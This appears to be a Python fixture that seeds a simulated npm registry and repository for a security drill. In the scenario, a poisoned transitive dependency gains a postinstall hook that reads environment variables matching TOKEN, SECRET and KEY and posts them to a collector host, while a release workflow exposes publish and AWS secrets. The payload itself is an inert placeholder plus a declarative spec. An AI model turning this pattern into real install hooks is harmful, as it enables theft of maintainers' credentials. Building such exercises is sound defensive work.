"""The npm side of the drill company: ferry's package, its release workflow, and a dependency that was poisoned.

``wave-format``, which ``harbor-tides`` needs, has a new install script since yesterday: it reads the environment for
tokens and posts them to the attacker. The lock file of ferry was refreshed after that.
"""

from __future__ import annotations

import json
from datetime import timedelta
from typing import Any

from bot.range.npm import NpmRegistry
from bot.range.npm_package import INERT, PUBLIC, RANGE_SCRIPT, release

PACKAGE, GOOD, BAD = "@harbor-lights/ferry", "1.4.2", "1.4.3"
DEPENDENCY, POISONED = "harbor-tides", "wave-format"
TOKEN_NAME, NEW_TOKEN_NAME = "ferry release", "ferry release, new"
SECRET = "NPM_PUBLISH_TOKEN"
RELEASE, ACCESS = ".github/workflows/release.yml", ".github/workflows/registry-access.yml"

RELEASE_YAML = f"""\
name: Release
on:
  workflow_dispatch:

permissions:
  contents: read

jobs:
  publish:
    runs-on: ubuntu-latest
    env:
      AWS_ACCESS_KEY_ID: ${{{{ secrets.AWS_ACCESS_KEY_ID }}}}
      AWS_SECRET_ACCESS_KEY: ${{{{ secrets.AWS_SECRET_ACCESS_KEY }}}}
      AWS_REGION: us-east-1
      {SECRET}: ${{{{ secrets.{SECRET} }}}}
    steps:
      - uses: actions/checkout@v5
      - uses: actions/setup-node@v5
        with:
          node-version: 22
          registry-url: {PUBLIC}
      - name: Install
        run: npm ci
      - name: Publish
        env:
          NODE_AUTH_TOKEN: ${{{{ secrets.{SECRET} }}}}
        run: npm publish
      - name: Keep a copy
        run: aws s3 cp package.json s3://ferry-releases/package.json
"""
ACCESS_YAML = f"""\
name: Registry access
on:
  workflow_dispatch:

permissions:
  contents: read

jobs:
  whoami:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v5
      - name: Whose token is it
        env:
          NODE_AUTH_TOKEN: ${{{{ secrets.{SECRET} }}}}
        run: npm whoami
"""


def seed_npm(registry: NpmRegistry, state: Any, repository: str, collector: str) -> tuple[dict[str, str], str]:
    """The registry, the files of the repository, its secret. Returns the cast's tokens, and that of a bystander."""
    for name in ("mara", "bulkhead-bot", "jonas", "tidewright"):
        registry.add_user(name)
    owners = {name: registry.add_token(name, name, writes=True) for name in ("bulkhead-bot", "jonas", "tidewright")}
    token = registry.add_token("mara", TOKEN_NAME)
    _packages(registry, token, owners, collector)
    registry.packages[PACKAGE].maintainers.append("bulkhead-bot")
    state.set_secret(repository, SECRET, token)
    manifest = _manifest(GOOD)
    files: dict[str, str | bytes | None] = {
        "package.json": json.dumps(manifest, indent=2) + "\n", "index.js": "module.exports = {}\n",
        "package-lock.json": json.dumps(_lock(registry, manifest), indent=2) + "\n",
        RELEASE: RELEASE_YAML, ACCESS: ACCESS_YAML,
    }  # fmt: skip
    commit = state.commit_files(repository, files, "Publish to npm; refresh the lock file", "mara", runs=False)
    git = state.repos[repository].git
    git.refs |= {f"refs/tags/v{version}": commit.parents[-1] for version in ("1.4.0", "1.4.1")}
    return {"bulkhead-bot": owners["bulkhead-bot"]}, owners["jonas"]


def _manifest(version: str) -> dict[str, Any]:
    return {"name": PACKAGE, "version": version, "license": "MIT", "dependencies": {DEPENDENCY: "^2.1.0"}}


def _packages(registry: NpmRegistry, token: str, owners: dict[str, str], collector: str) -> None:
    now = registry.clock.now()
    poison = [
        {"do": "read-environment", "names": ["*TOKEN*", "*SECRET*", "*KEY*"]},
        {"do": "post", "to": f"{collector}/collect"},
    ]
    script = {"postinstall.js": INERT.encode(), RANGE_SCRIPT: json.dumps(poison).encode()}
    wave = {"name": POISONED, "license": "MIT"}
    made: list[tuple[str, float, dict[str, Any], dict[str, bytes]]] = [
        ("tidewright", 700, {**wave, "version": "1.3.0"}, {}),
        ("tidewright", 1, {**wave, "version": "1.3.1", "scripts": {"postinstall": "node postinstall.js"}}, script),
        ("tidewright", 600, {"name": DEPENDENCY, "version": "2.1.0", "dependencies": {POISONED: "^1.3.0"}}, {}),
        ("jonas", 300, {"name": "@harbor-lights/timetable", "version": "0.9.0"}, {}),
        ("mara", 200, _manifest("1.4.0"), {}),
        ("mara", 60, _manifest("1.4.1"), {}),
    ]
    for user, days, manifest, files in made:
        value = token if user == "mara" else owners[user]
        registry.publish(release(manifest, files), registry.tokens[value], now - timedelta(days=days))


def _lock(registry: NpmRegistry, manifest: dict[str, Any]) -> dict[str, Any]:
    """What ``npm install --package-lock-only`` writes: the newest of everything, yesterday's poison too."""
    packages: dict[str, Any] = {"": {k: manifest[k] for k in ("name", "version", "license", "dependencies")}}
    for name in (DEPENDENCY, POISONED):
        package = registry.packages[name]
        version = package.tags["latest"]
        found = package.versions[version]
        packages[f"node_modules/{name}"] = {
            "version": version, "resolved": f"{PUBLIC}/{name}/-/{package.file_of(version)}",
            "integrity": found["dist"]["integrity"], "license": "MIT",
            **({"hasInstallScript": True} if found.get("scripts") else {}),
            **({"dependencies": found["dependencies"]} if found.get("dependencies") else {}),
        }  # fmt: skip
    return {"name": PACKAGE, "version": GOOD, "lockfileVersion": 3, "requires": True, "packages": packages}
